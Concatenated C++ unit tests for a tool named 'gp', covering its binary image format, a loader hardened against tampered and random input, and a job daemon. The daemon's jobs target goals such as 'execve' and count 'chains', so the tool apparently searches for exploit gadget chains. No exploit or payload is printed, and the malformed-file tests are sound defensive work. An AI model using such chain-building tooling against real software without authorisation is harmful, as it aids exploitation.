  EXPECT_EQ(img.code().size(), 64u);
  EXPECT_EQ(img.data().size(), 4u);
}

TEST(Image, InCodeBounds) {
  auto img = make();
  EXPECT_TRUE(img.in_code(kCodeBase));
  EXPECT_TRUE(img.in_code(kCodeBase + 63));
  EXPECT_FALSE(img.in_code(kCodeBase + 64));
  EXPECT_FALSE(img.in_code(kCodeBase - 1));
  EXPECT_FALSE(img.in_code(0));
  EXPECT_FALSE(img.in_code(kDataBase));
}

TEST(Image, CodeAtSlicesFromAddress) {
  auto img = make();
  auto span = img.code_at(kCodeBase + 10);
  EXPECT_EQ(span.size(), 54u);
  EXPECT_EQ(span[0], 0x90);
  EXPECT_THROW(img.code_at(kCodeBase + 64), Error);
}

TEST(Image, Symbols) {
  auto img = make();
  EXPECT_EQ(img.find_symbol("main").value(), kCodeBase + 8);
  EXPECT_EQ(img.find_symbol("helper").value(), kCodeBase + 32);
  EXPECT_FALSE(img.find_symbol("nope").has_value());
}

TEST(Image, SymbolizeFindsClosestBelow) {
  auto img = make();
  EXPECT_EQ(img.symbolize(kCodeBase + 8), "main");
  EXPECT_EQ(img.symbolize(kCodeBase + 12), "main+0x4");
  EXPECT_EQ(img.symbolize(kCodeBase + 40), "helper+0x8");
  // Below every symbol: falls back to hex.
  EXPECT_EQ(img.symbolize(kCodeBase)[0], '0');
}

TEST(Image, AddressConstantsAreSane) {
  // The emulator/planner assumptions baked into the address plan.
  EXPECT_LT(kCodeBase, kDataBase);
  EXPECT_LT(kDataBase, kStackTop);
  EXPECT_LT(kStackTop, u64{1} << 32);  // the zext canonicalization invariant
  EXPECT_GT(kExitAddress, kStackTop);
}

}  // namespace
}  // namespace gp::image
