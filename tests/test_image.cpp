#include <gtest/gtest.h>

#include <random>

#include "image/image.hpp"
#include "support/serial.hpp"

namespace gp::image {
namespace {

Image make() {
  std::vector<u8> code(64, 0x90);
  std::vector<u8> data{1, 2, 3, 4};
  Image img(std::move(code), std::move(data), kCodeBase + 8);
  img.add_symbol("main", kCodeBase + 8);
  img.add_symbol("helper", kCodeBase + 32);
  return img;
}

TEST(Image, Layout) {
  auto img = make();
  EXPECT_EQ(img.code_base(), kCodeBase);
  EXPECT_EQ(img.data_base(), kDataBase);
  EXPECT_EQ(img.code_end(), kCodeBase + 64);
  EXPECT_EQ(img.entry(), kCodeBase + 8);
  EXPECT_EQ(img.code().size(), 64u);
  EXPECT_EQ(img.data().size(), 4u);
}

TEST(Image, InCodeBounds) {
  auto img = make();
  EXPECT_TRUE(img.in_code(kCodeBase));
  EXPECT_TRUE(img.in_code(kCodeBase + 63));
  EXPECT_FALSE(img.in_code(kCodeBase + 64));
  EXPECT_FALSE(img.in_code(kCodeBase - 1));
  EXPECT_FALSE(img.in_code(0));
  EXPECT_FALSE(img.in_code(kDataBase));
}

TEST(Image, CodeAtSlicesFromAddress) {
  auto img = make();
  auto span = img.code_at(kCodeBase + 10);
  EXPECT_EQ(span.size(), 54u);
  EXPECT_EQ(span[0], 0x90);
  EXPECT_THROW(img.code_at(kCodeBase + 64), Error);
}

TEST(Image, Symbols) {
  auto img = make();
  EXPECT_EQ(img.find_symbol("main").value(), kCodeBase + 8);
  EXPECT_EQ(img.find_symbol("helper").value(), kCodeBase + 32);
  EXPECT_FALSE(img.find_symbol("nope").has_value());
}

TEST(Image, SymbolizeFindsClosestBelow) {
  auto img = make();
  EXPECT_EQ(img.symbolize(kCodeBase + 8), "main");
  EXPECT_EQ(img.symbolize(kCodeBase + 12), "main+0x4");
  EXPECT_EQ(img.symbolize(kCodeBase + 40), "helper+0x8");
  // Below every symbol: falls back to hex.
  EXPECT_EQ(img.symbolize(kCodeBase)[0], '0');
}

TEST(Image, AddressConstantsAreSane) {
  // The emulator/planner assumptions baked into the address plan.
  EXPECT_LT(kCodeBase, kDataBase);
  EXPECT_LT(kDataBase, kStackTop);
  EXPECT_LT(kStackTop, u64{1} << 32);  // the zext canonicalization invariant
  EXPECT_GT(kExitAddress, kStackTop);
}

// -- GPIM save/load and loader hardening --------------------------------------

// Re-seal a hand-tampered GPIM buffer: the loader checks the whole-file CRC
// first, so crafting a *structurally* malicious file requires fixing up the
// footer the way an attacker (or fuzzer) with write access would.
std::vector<u8> reseal(std::vector<u8> bytes) {
  const std::span<const u8> body(bytes.data(), bytes.size() - 4);
  const u32 crc = serial::crc32(body);
  for (int i = 0; i < 4; ++i)
    bytes[bytes.size() - 4 + i] = static_cast<u8>(crc >> (8 * i));
  return bytes;
}

TEST(ImageFormat, SaveLoadRoundTrip) {
  auto img = make();
  auto loaded = load(save(img));
  ASSERT_TRUE(loaded.ok()) << loaded.status().to_string();
  const Image& out = loaded.value();
  EXPECT_EQ(std::vector<u8>(out.code().begin(), out.code().end()),
            std::vector<u8>(img.code().begin(), img.code().end()));
  EXPECT_EQ(std::vector<u8>(out.data().begin(), out.data().end()),
            std::vector<u8>(img.data().begin(), img.data().end()));
  EXPECT_EQ(out.entry(), img.entry());
  ASSERT_EQ(out.symbols().size(), img.symbols().size());
  EXPECT_EQ(out.find_symbol("main").value(), kCodeBase + 8);
}

TEST(ImageFormat, RoundTripWithoutDataSection) {
  Image img(std::vector<u8>(16, 0xc3), {}, kCodeBase);
  auto loaded = load(save(img));
  ASSERT_TRUE(loaded.ok()) << loaded.status().to_string();
  EXPECT_EQ(loaded.value().code().size(), 16u);
  EXPECT_TRUE(loaded.value().data().empty());
}

TEST(ImageFormat, EveryTruncationFailsCleanly) {
  const auto full = save(make());
  for (size_t len = 0; len < full.size(); ++len) {
    auto r = load({full.data(), len});
    EXPECT_FALSE(r.ok()) << "prefix length " << len;
  }
}

TEST(ImageFormat, RandomBitFlipsNeverCrashTheLoader) {
  const auto full = save(make());
  std::mt19937 rng(31);
  for (int trial = 0; trial < 512; ++trial) {
    auto damaged = full;
    const size_t bit = rng() % (damaged.size() * 8);
    damaged[bit / 8] ^= static_cast<u8>(1u << (bit % 8));
    // A single flipped bit is always caught by the whole-file CRC.
    EXPECT_FALSE(load(damaged).ok()) << "flipped bit " << bit;
  }
}

TEST(ImageFormat, RandomGarbageNeverCrashesTheLoader) {
  std::mt19937 rng(37);
  for (int trial = 0; trial < 512; ++trial) {
    std::vector<u8> junk(rng() % 256);
    for (auto& b : junk) b = static_cast<u8>(rng());
    EXPECT_FALSE(load(junk).ok());
  }
}

TEST(ImageFormat, OversizedSectionCountIsRejected) {
  auto bytes = save(make());
  // n_sections lives right after magic+version+entry (offset 16).
  bytes[16] = 0xff;
  bytes[17] = 0xff;
  auto r = load(reseal(std::move(bytes)));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("section"), std::string::npos);
}

TEST(ImageFormat, SectionEscapingTheFileIsRejected) {
  auto bytes = save(make());
  // First section entry: kind u8 at 20, vaddr u64 at 21, offset u64 at 29,
  // size u64 at 37. Point the size past the end of the file.
  for (int i = 0; i < 8; ++i) bytes[37 + i] = 0xff;
  auto r = load(reseal(std::move(bytes)));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("escapes"), std::string::npos);
}

TEST(ImageFormat, OverlappingSectionsAreRejected) {
  auto img = make();
  auto bytes = save(img);
  // Make the data section's file range start inside the code section's.
  // Data entry begins at 20 + 25: kind at 45, vaddr at 46, offset at 54.
  u64 code_offset = 0;
  for (int i = 0; i < 8; ++i) code_offset |= u64{bytes[29 + i]} << (8 * i);
  for (int i = 0; i < 8; ++i)
    bytes[54 + i] = static_cast<u8>((code_offset + 1) >> (8 * i));
  auto r = load(reseal(std::move(bytes)));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("overlap"), std::string::npos);
}

TEST(ImageFormat, EntryOutsideCodeIsRejected) {
  auto bytes = save(make());
  // Entry u64 lives at offset 8; point it below the code base.
  for (int i = 0; i < 8; ++i) bytes[8 + i] = 0;
  auto r = load(reseal(std::move(bytes)));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("entry"), std::string::npos);
}

TEST(ImageFormat, BumpedVersionIsRejected) {
  auto bytes = save(make());
  bytes[4] = 99;  // version field follows the magic
  auto r = load(reseal(std::move(bytes)));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("version"), std::string::npos);
}

}  // namespace
}  // namespace gp::image
