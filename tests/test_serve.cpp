// Tests for the gp_serve daemon stack: wire protocol round-trips, the
// admission/shed state machine, disconnect-surviving jobs, drain semantics
// and socket-fault hardening. Every daemon test runs a real Server on a
// unix socket in a private temp dir against a private Engine.
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "core/engine.hpp"
#include "serve/client.hpp"
#include "serve/journal.hpp"
#include "serve/protocol.hpp"
#include "serve/server.hpp"
#include "support/fault.hpp"
#include "support/metrics.hpp"
#include "support/serial.hpp"

namespace gp::serve {
namespace {

// Same fast call-rich mini-C program the core tests use: milliseconds per
// job, still yields a real pool and chains.
const char* kTinySource = R"(
int scale(int x, int k) { return x * k + 3; }
int clamp(int v, int lo, int hi) { if (v < lo) return lo; if (v > hi) return hi; return v; }
int a[16];
int main() {
  int i = 0;
  while (i < 16) { a[i] = clamp(scale(i, 37), 5, 900) & 0xff; i = i + 1; }
  int j = 0; int best = 0;
  while (j < 16) { if (a[j] > best) best = a[j]; j = j + 1; }
  out(best); return best;
})";

JobSpec tiny_spec(u64 seed = 7) {
  JobSpec spec;
  spec.program = "inline_tiny";
  spec.source = kTinySource;
  spec.obf = "none";
  spec.goal = "execve";
  spec.seed = seed;
  return spec;
}

/// A live server in a fresh mkdtemp dir with its own engine.
struct TestDaemon {
  explicit TestDaemon(int queue_limit = 8, int max_active = 2,
                      bool with_store = true) {
    char tmpl[] = "/tmp/gp_serve_test_XXXXXX";
    const char* p = ::mkdtemp(tmpl);
    EXPECT_NE(p, nullptr);
    if (p) dir = p;
    engine = std::make_unique<core::Engine>(Config{});
    ServeOptions opts;
    opts.socket_path = dir + "/gp.sock";
    opts.queue_limit = queue_limit;
    opts.max_active = max_active;
    if (with_store) opts.store_dir = dir + "/store";
    server = std::make_unique<Server>(*engine, opts);
    const Status st = server->start();
    EXPECT_TRUE(st.ok()) << st.to_string();
  }
  ~TestDaemon() {
    server.reset();
    // Tests share a process: leave no temp dirs behind.
    std::system(("rm -rf " + dir).c_str());
  }
  std::string sock() const { return dir + "/gp.sock"; }

  std::string dir;
  std::unique_ptr<core::Engine> engine;
  std::unique_ptr<Server> server;
};

TEST(ServeProtocol, JobSpecAndOutcomeRoundTrip) {
  JobSpec spec = tiny_spec(11);
  spec.klass = "batch";
  spec.deadline_ms = 1500;
  spec.solver_checks = 4000;
  serial::Writer w;
  spec.encode(w);
  serial::Reader r(w.bytes());
  const auto back = JobSpec::decode(r);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->program, spec.program);
  EXPECT_EQ(back->source, spec.source);
  EXPECT_EQ(back->klass, "batch");
  EXPECT_EQ(back->seed, 11u);
  EXPECT_DOUBLE_EQ(back->deadline_ms, 1500);
  EXPECT_EQ(back->solver_checks, 4000u);

  JobOutcome out;
  out.job_id = "job-0123456789abcdef";
  out.status_code = static_cast<u8>(StatusCode::DeadlineExceeded);
  out.status_msg = "deadline";
  out.digest = 0xfeedface;
  out.seconds = 1.25;
  out.warm = true;
  out.chains_per_goal = {{"execve", 3}, {"mmap", 0}};
  serial::Writer w2;
  out.encode(w2);
  serial::Reader r2(w2.bytes());
  const auto out2 = JobOutcome::decode(r2);
  ASSERT_TRUE(out2.has_value());
  EXPECT_EQ(out2->job_id, out.job_id);
  EXPECT_EQ(out2->digest, 0xfeedfaceu);
  EXPECT_TRUE(out2->warm);
  EXPECT_EQ(out2->chains_total(), 3u);
}

TEST(ServeProtocol, JobIdHashesResultDeterminingFieldsOnly) {
  const JobSpec a = tiny_spec(7);
  JobSpec b = tiny_spec(7);
  // Admission class and streaming are transport, not analysis: same id.
  b.klass = "interactive";
  EXPECT_EQ(a.job_id(), b.job_id());
  EXPECT_EQ(a.job_id().substr(0, 4), "job-");

  // Any result-determining field forks the id.
  JobSpec c = tiny_spec(8);
  EXPECT_NE(a.job_id(), c.job_id());
  JobSpec d = tiny_spec(7);
  d.goal = "mmap";
  EXPECT_NE(a.job_id(), d.job_id());
  JobSpec e = tiny_spec(7);
  e.solver_checks = 1;
  EXPECT_NE(a.job_id(), e.job_id());
}

TEST(ServeProtocol, FramesSurviveRoundTripAndRejectCorruption) {
  int fds[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, fds), 0);
  const std::vector<u8> payload = make_progress("job-1", "extract");
  ASSERT_TRUE(write_frame(fds[0], payload).ok());
  auto got = read_frame(fds[1]);
  ASSERT_TRUE(got.ok()) << got.status().to_string();
  EXPECT_EQ(got.value(), payload);

  // Bit-flip the payload on the wire: CRC must reject it as a Status.
  std::vector<u8> raw;
  {
    serial::Writer w;
    w.put_u32(static_cast<u32>(payload.size()));
    w.put_u32(serial::crc32(payload));
    w.put_raw(payload);
    raw = w.take();
  }
  raw[9] ^= 0x40;
  ASSERT_EQ(::send(fds[0], raw.data(), raw.size(), 0),
            static_cast<ssize_t>(raw.size()));
  auto bad = read_frame(fds[1]);
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.status().code(), StatusCode::Internal);
  EXPECT_NE(bad.status().message().find("CRC"), std::string::npos);

  // A clean close at a frame boundary is Cancelled, not an error.
  ::close(fds[0]);
  auto eof = read_frame(fds[1]);
  ASSERT_FALSE(eof.ok());
  EXPECT_EQ(eof.status().code(), StatusCode::Cancelled);
  ::close(fds[1]);
}

TEST(ServeProtocol, OversizedFrameLengthIsRejectedBeforeAllocation) {
  int fds[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, fds), 0);
  serial::Writer w;
  w.put_u32(kMaxFrame + 1);
  w.put_u32(0);
  ASSERT_EQ(::send(fds[0], w.bytes().data(), w.size(), 0),
            static_cast<ssize_t>(w.size()));
  auto got = read_frame(fds[1]);
  ASSERT_FALSE(got.ok());
  EXPECT_NE(got.status().message().find("exceeds limit"), std::string::npos);
  ::close(fds[0]);
  ::close(fds[1]);
}

TEST(ServeDaemon, SubmitStreamsStagesAndDedupesResubmits) {
  TestDaemon d;
  auto c = Client::connect(d.sock());
  ASSERT_TRUE(c.ok()) << c.status().to_string();
  ASSERT_TRUE(c.value().ping().ok());

  auto adm = c.value().submit(tiny_spec());
  ASSERT_TRUE(adm.ok()) << adm.status().to_string();
  ASSERT_TRUE(adm.value().accepted);
  EXPECT_FALSE(adm.value().ok.already_done);

  std::vector<std::string> stages;
  auto outcome = c.value().wait_result(
      [&](const ProgressMsg& p) { stages.push_back(p.stage); });
  ASSERT_TRUE(outcome.ok()) << outcome.status().to_string();
  EXPECT_EQ(outcome.value().job_id, tiny_spec().job_id());
  EXPECT_EQ(static_cast<StatusCode>(outcome.value().status_code),
            StatusCode::Ok);
  EXPECT_NE(outcome.value().digest, 0u);
  // The streamed stages arrive in pipeline order. (Whether the first
  // observed frame is "queued" or "starting" depends on how fast a worker
  // grabbed the job — both are legal.)
  ASSERT_GE(stages.size(), 2u);
  const auto extract_at =
      std::find(stages.begin(), stages.end(), "extract");
  const auto plan_at = std::find(stages.begin(), stages.end(), "plan");
  ASSERT_NE(extract_at, stages.end());
  ASSERT_NE(plan_at, stages.end());
  EXPECT_LT(extract_at - stages.begin(), plan_at - stages.begin());

  // Identical resubmit on a fresh connection: dedupe onto the done record,
  // byte-identical digest, no second analysis.
  auto c2 = Client::connect(d.sock());
  ASSERT_TRUE(c2.ok());
  auto adm2 = c2.value().submit(tiny_spec());
  ASSERT_TRUE(adm2.ok());
  ASSERT_TRUE(adm2.value().accepted);
  EXPECT_TRUE(adm2.value().ok.already_done);
  auto outcome2 = c2.value().wait_result();
  ASSERT_TRUE(outcome2.ok());
  EXPECT_EQ(outcome2.value().digest, outcome.value().digest);
}

TEST(ServeDaemon, ShedsWhenQueueIsFullAndReportsRetryAfter) {
  metrics::set_enabled(true);
  TestDaemon d(/*queue_limit=*/1, /*max_active=*/1);
  // Freeze the workers: admitted jobs stay queued, so the second distinct
  // submit must overflow the 1-deep queue deterministically.
  d.server->hold_workers(true);

  auto c1 = Client::connect(d.sock());
  ASSERT_TRUE(c1.ok());
  auto adm1 = c1.value().submit(tiny_spec(100), /*stream=*/false);
  ASSERT_TRUE(adm1.ok());
  EXPECT_TRUE(adm1.value().accepted);

  auto c2 = Client::connect(d.sock());
  ASSERT_TRUE(c2.ok());
  auto adm2 = c2.value().submit(tiny_spec(101), /*stream=*/false);
  ASSERT_TRUE(adm2.ok());
  ASSERT_FALSE(adm2.value().accepted);
  EXPECT_EQ(adm2.value().shed.reason, "queue-full");
  EXPECT_GE(adm2.value().shed.retry_after_ms, 50u);

  // A duplicate of the QUEUED job is never shed — it dedupes.
  auto c3 = Client::connect(d.sock());
  ASSERT_TRUE(c3.ok());
  auto adm3 = c3.value().submit(tiny_spec(100), /*stream=*/false);
  ASSERT_TRUE(adm3.ok());
  EXPECT_TRUE(adm3.value().accepted);

  const auto snap = metrics::registry().snapshot();
  EXPECT_GE(snap.counters.at("serve.shed"), 1u);
  EXPECT_GE(snap.counters.at("serve.dedup_hits"), 1u);

  d.server->hold_workers(false);
  d.server->stop(/*drain=*/true);
}

TEST(ServeDaemon, PerClassLimitBoundsOneTenantNotTheOther) {
  TestDaemon d(/*queue_limit=*/8, /*max_active=*/1);
  // Rebuild with a per-class cap of 1.
  d.server->stop(true);
  ServeOptions opts = d.server->options();
  opts.per_class_limit = 1;
  d.server = std::make_unique<Server>(*d.engine, opts);
  ASSERT_TRUE(d.server->start().ok());
  d.server->hold_workers(true);

  auto submit = [&](u64 seed, const std::string& klass) {
    auto c = Client::connect(d.sock());
    EXPECT_TRUE(c.ok());
    JobSpec spec = tiny_spec(seed);
    spec.klass = klass;
    auto adm = c.value().submit(spec, /*stream=*/false);
    EXPECT_TRUE(adm.ok());
    return adm.value();
  };

  EXPECT_TRUE(submit(200, "batch").accepted);
  const auto over = submit(201, "batch");
  ASSERT_FALSE(over.accepted);
  EXPECT_EQ(over.shed.reason, "class-full");
  // A different class still has its own share of the queue.
  EXPECT_TRUE(submit(202, "interactive").accepted);

  d.server->hold_workers(false);
  d.server->stop(/*drain=*/true);
}

TEST(ServeDaemon, ClientDisconnectDoesNotCancelTheJob) {
  TestDaemon d;
  const JobSpec spec = tiny_spec(300);
  {
    // Submit, then vanish without reading a single progress frame.
    auto c = Client::connect(d.sock());
    ASSERT_TRUE(c.ok());
    auto adm = c.value().submit(spec);
    ASSERT_TRUE(adm.ok());
    ASSERT_TRUE(adm.value().accepted);
  }  // ~Client closes the socket mid-stream.

  // Reconnect and attach by id: the orphaned job finished anyway and the
  // result is waiting in the registry.
  auto c2 = Client::connect(d.sock());
  ASSERT_TRUE(c2.ok());
  Result<JobOutcome> outcome = Status::internal("unset");
  for (int i = 0; i < 200; ++i) {
    auto adm = c2.value().attach(spec.job_id());
    ASSERT_TRUE(adm.ok()) << adm.status().to_string();
    outcome = c2.value().wait_result();
    if (outcome.ok()) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
    c2 = Client::connect(d.sock());
    ASSERT_TRUE(c2.ok());
  }
  ASSERT_TRUE(outcome.ok()) << outcome.status().to_string();
  EXPECT_EQ(outcome.value().job_id, spec.job_id());
  EXPECT_EQ(static_cast<StatusCode>(outcome.value().status_code),
            StatusCode::Ok);
  EXPECT_NE(outcome.value().digest, 0u);
}

TEST(ServeDaemon, AttachUnknownJobIsAnErrorNotACrash) {
  TestDaemon d;
  auto c = Client::connect(d.sock());
  ASSERT_TRUE(c.ok());
  auto adm = c.value().attach("job-ffffffffffffffff");
  ASSERT_FALSE(adm.ok());
  EXPECT_NE(adm.status().message().find("unknown job"), std::string::npos);
  // The daemon is still healthy on a fresh connection (the error closed
  // only the job stream, not the listener).
  auto c2 = Client::connect(d.sock());
  ASSERT_TRUE(c2.ok());
  EXPECT_TRUE(c2.value().ping().ok());
}

TEST(ServeDaemon, DrainShedsNewWorkFinishesAdmittedWork) {
  TestDaemon d;
  auto c = Client::connect(d.sock());
  ASSERT_TRUE(c.ok());
  auto adm = c.value().submit(tiny_spec(400));
  ASSERT_TRUE(adm.ok());
  ASSERT_TRUE(adm.value().accepted);

  d.server->request_drain();

  // New (distinct) work is shed with reason "draining"...
  auto c2 = Client::connect(d.sock());
  ASSERT_TRUE(c2.ok());
  auto late = c2.value().submit(tiny_spec(401), /*stream=*/false);
  ASSERT_TRUE(late.ok());
  ASSERT_FALSE(late.value().accepted);
  EXPECT_EQ(late.value().shed.reason, "draining");

  // ...but the admitted job still completes and streams its result.
  auto outcome = c.value().wait_result();
  ASSERT_TRUE(outcome.ok()) << outcome.status().to_string();
  EXPECT_EQ(static_cast<StatusCode>(outcome.value().status_code),
            StatusCode::Ok);
  d.server->stop(/*drain=*/true);
}

TEST(ServeDaemon, RestartOnSameStoreResumesWarmWithIdenticalDigest) {
  char tmpl[] = "/tmp/gp_serve_test_XXXXXX";
  const std::string dir = ::mkdtemp(tmpl);
  const std::string store = dir + "/store";
  const JobSpec spec = tiny_spec(500);
  u64 cold_digest = 0;

  {
    core::Engine engine{Config{}};
    ServeOptions opts;
    opts.socket_path = dir + "/gen1.sock";
    opts.store_dir = store;
    Server server(engine, opts);
    ASSERT_TRUE(server.start().ok());
    auto c = Client::connect(opts.socket_path);
    ASSERT_TRUE(c.ok());
    auto adm = c.value().submit(spec);
    ASSERT_TRUE(adm.ok());
    auto outcome = c.value().wait_result();
    ASSERT_TRUE(outcome.ok());
    EXPECT_FALSE(outcome.value().warm);
    cold_digest = outcome.value().digest;
    server.stop(/*drain=*/true);
  }  // Generation 1 gone — registry with it, store checkpoints survive.

  {
    core::Engine engine{Config{}};  // fresh engine: no in-process caches
    ServeOptions opts;
    opts.socket_path = dir + "/gen2.sock";
    opts.store_dir = store;
    Server server(engine, opts);
    ASSERT_TRUE(server.start().ok());
    auto c = Client::connect(opts.socket_path);
    ASSERT_TRUE(c.ok());
    auto adm = c.value().submit(spec);
    ASSERT_TRUE(adm.ok());
    ASSERT_TRUE(adm.value().accepted);
    EXPECT_FALSE(adm.value().ok.already_done);  // new registry
    auto outcome = c.value().wait_result();
    ASSERT_TRUE(outcome.ok());
    // Cross-process resume: served from the dead generation's checkpoints,
    // byte-identical to the cold result.
    EXPECT_TRUE(outcome.value().warm);
    EXPECT_EQ(outcome.value().digest, cold_digest);
    server.stop(/*drain=*/true);
  }
  std::system(("rm -rf " + dir).c_str());
}

TEST(ServeDaemon, SocketFaultsDegradeRequestsNeverTheDaemon) {
  metrics::set_enabled(true);
  TestDaemon d;
  // Warm the job first so the fault leg measures transport, not analysis.
  {
    auto c = Client::connect(d.sock());
    ASSERT_TRUE(c.ok());
    ASSERT_TRUE(c.value().submit(tiny_spec(600)).ok());
    ASSERT_TRUE(c.value().wait_result().ok());
  }
  int completed = 0, request_errors = 0;
  {
    fault::ScopedSpec chaos("accept=0.2,sock_read=0.1,sock_write=0.1,seed=9");
    for (int i = 0; i < 60; ++i) {
      auto c = Client::connect(d.sock());
      if (!c.ok()) {
        ++request_errors;
        continue;
      }
      auto adm = c.value().submit(tiny_spec(600));
      if (!adm.ok() || !adm.value().accepted) {
        ++request_errors;
        continue;
      }
      auto outcome = c.value().wait_result();
      if (outcome.ok())
        ++completed;
      else
        ++request_errors;
    }
  }
  // With these rates both sides of the split must be non-trivial: faults
  // actually fired, and the daemon kept serving through them.
  EXPECT_GT(completed, 0);
  EXPECT_GT(request_errors, 0);
  auto c = Client::connect(d.sock());
  ASSERT_TRUE(c.ok());
  EXPECT_TRUE(c.value().ping().ok());
  const auto snap = metrics::registry().snapshot();
  auto count = [&](const char* k) -> u64 {
    auto it = snap.counters.find(k);
    return it == snap.counters.end() ? 0 : it->second;
  };
  const u64 injected = count("serve.accept_faults") +
                       count("serve.sock_read_faults") +
                       count("serve.sock_write_faults");
  EXPECT_GT(injected, 0u);
}

TEST(ServeDaemon, StatsReportsQueueGaugesAndMetrics) {
  metrics::set_enabled(true);
  TestDaemon d;
  auto c = Client::connect(d.sock());
  ASSERT_TRUE(c.ok());
  auto json = c.value().stats();
  ASSERT_TRUE(json.ok()) << json.status().to_string();
  EXPECT_NE(json.value().find("\"queue_depth\""), std::string::npos);
  EXPECT_NE(json.value().find("\"max_active\""), std::string::npos);
  EXPECT_NE(json.value().find("\"draining\": false"), std::string::npos);
  EXPECT_NE(json.value().find("\"metrics\""), std::string::npos);
}

TEST(ServeDaemon, BadBytesOnTheSocketGetErrorNotCrash) {
  TestDaemon d;
  // A well-framed (valid CRC) payload whose content is garbage: a bogus
  // type byte and a truncated version field.
  const std::vector<u8> garbage = {0xff, 0x01, 0x02, 0x03};
  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  ASSERT_GE(fd, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::snprintf(addr.sun_path, sizeof addr.sun_path, "%s",
                d.sock().c_str());
  ASSERT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr),
            0);
  ASSERT_TRUE(write_frame(fd, garbage).ok());
  auto reply = read_frame(fd);
  ASSERT_TRUE(reply.ok()) << reply.status().to_string();
  serial::Reader r(reply.value());
  EXPECT_EQ(read_header(r), std::optional<MsgType>(MsgType::kError));
  ::close(fd);
  // Daemon survives.
  auto c2 = Client::connect(d.sock());
  ASSERT_TRUE(c2.ok());
  EXPECT_TRUE(c2.value().ping().ok());
}

// -- durable job journal ------------------------------------------------------

/// mkdtemp scratch dir with rm -rf cleanup, for tests that drive Journal
/// or Server generations directly.
struct TempDir {
  TempDir() {
    char tmpl[] = "/tmp/gp_journal_test_XXXXXX";
    const char* p = ::mkdtemp(tmpl);
    EXPECT_NE(p, nullptr);
    if (p) path = p;
  }
  ~TempDir() { std::system(("rm -rf " + path).c_str()); }
  std::string path;
};

TEST(ServeJournal, RoundTripReplaysAdmitStartDone) {
  TempDir t;
  const std::string jpath = t.path + "/journal.gpj";
  const JobSpec spec = tiny_spec(600);
  {
    Journal j(jpath);
    ASSERT_TRUE(j.open().ok());
    EXPECT_TRUE(j.take_replay().jobs.empty());
    ASSERT_TRUE(j.append_admit(spec, spec.job_id(), "default").ok());
    ASSERT_TRUE(j.append_start(spec.job_id()).ok());
    ASSERT_TRUE(j.append_done(spec.job_id(), 0, 0xfeedbeefcafe).ok());
  }
  Journal j2(jpath);
  ASSERT_TRUE(j2.open().ok());
  const ReplayResult r = j2.take_replay();
  EXPECT_EQ(r.records, 3u);
  EXPECT_EQ(r.torn_tail_bytes, 0u);
  EXPECT_FALSE(r.rotated);
  ASSERT_EQ(r.jobs.size(), 1u);
  EXPECT_EQ(r.jobs[0].job_id, spec.job_id());
  EXPECT_FALSE(r.jobs[0].open);
  EXPECT_EQ(r.jobs[0].done_digest, 0xfeedbeefcafeu);
  EXPECT_EQ(r.jobs[0].dead_incarnations, 0u);
  // The replayed spec is byte-equivalent: same job id.
  EXPECT_EQ(r.jobs[0].spec.job_id(), spec.job_id());
}

TEST(ServeJournal, UnmatchedStartsCountDeadIncarnations) {
  TempDir t;
  const std::string jpath = t.path + "/journal.gpj";
  const JobSpec spec = tiny_spec(601);
  {
    Journal j(jpath);
    ASSERT_TRUE(j.open().ok());
    ASSERT_TRUE(j.append_admit(spec, spec.job_id(), "default").ok());
    ASSERT_TRUE(j.append_start(spec.job_id()).ok());
  }  // incarnation 1 "dies": Start with no terminal record
  {
    Journal j(jpath);
    ASSERT_TRUE(j.open().ok());
    const ReplayResult r = j.take_replay();
    ASSERT_EQ(r.jobs.size(), 1u);
    EXPECT_TRUE(r.jobs[0].open);
    EXPECT_EQ(r.jobs[0].dead_incarnations, 1u);
    ASSERT_TRUE(j.append_start(spec.job_id()).ok());
  }  // incarnation 2 dies the same way
  Journal j3(jpath);
  ASSERT_TRUE(j3.open().ok());
  EXPECT_EQ(j3.take_replay().jobs[0].dead_incarnations, 2u);
}

TEST(ServeJournal, ServerReplaysBacklogAndCompletesWithoutResubmission) {
  TempDir t;
  const std::string store = t.path + "/store";
  const JobSpec spec = tiny_spec(602);

  // What the journal of a SIGKILLed daemon looks like: an admitted job
  // with no terminal record. Written directly — no server ever saw it.
  {
    Journal j(store + "/journal.gpj");
    ASSERT_TRUE(j.open().ok());
    ASSERT_TRUE(j.append_admit(spec, spec.job_id(), "default").ok());
  }

  core::Engine engine{Config{}};
  ServeOptions opts;
  opts.socket_path = t.path + "/gp.sock";
  opts.store_dir = store;
  Server server(engine, opts);
  ASSERT_TRUE(server.start().ok());
  EXPECT_EQ(server.replay_summary().requeued, 1u);

  // Attach ONLY — the job must complete from the journal alone.
  auto c = Client::connect(opts.socket_path);
  ASSERT_TRUE(c.ok());
  auto adm = c.value().attach(spec.job_id());
  ASSERT_TRUE(adm.ok()) << adm.status().to_string();
  ASSERT_TRUE(adm.value().accepted);
  auto outcome = c.value().wait_result();
  ASSERT_TRUE(outcome.ok()) << outcome.status().to_string();
  EXPECT_EQ(static_cast<StatusCode>(outcome.value().status_code),
            StatusCode::Ok);
  const u64 replayed_digest = outcome.value().digest;
  server.stop(/*drain=*/true);

  // Digest identity: the same spec submitted normally to a fresh daemon
  // (fresh store, fresh engine) must agree byte-for-byte.
  TestDaemon d;
  auto c2 = Client::connect(d.sock());
  ASSERT_TRUE(c2.ok());
  auto adm2 = c2.value().submit(spec);
  ASSERT_TRUE(adm2.ok());
  auto out2 = c2.value().wait_result();
  ASSERT_TRUE(out2.ok());
  EXPECT_EQ(out2.value().digest, replayed_digest);
}

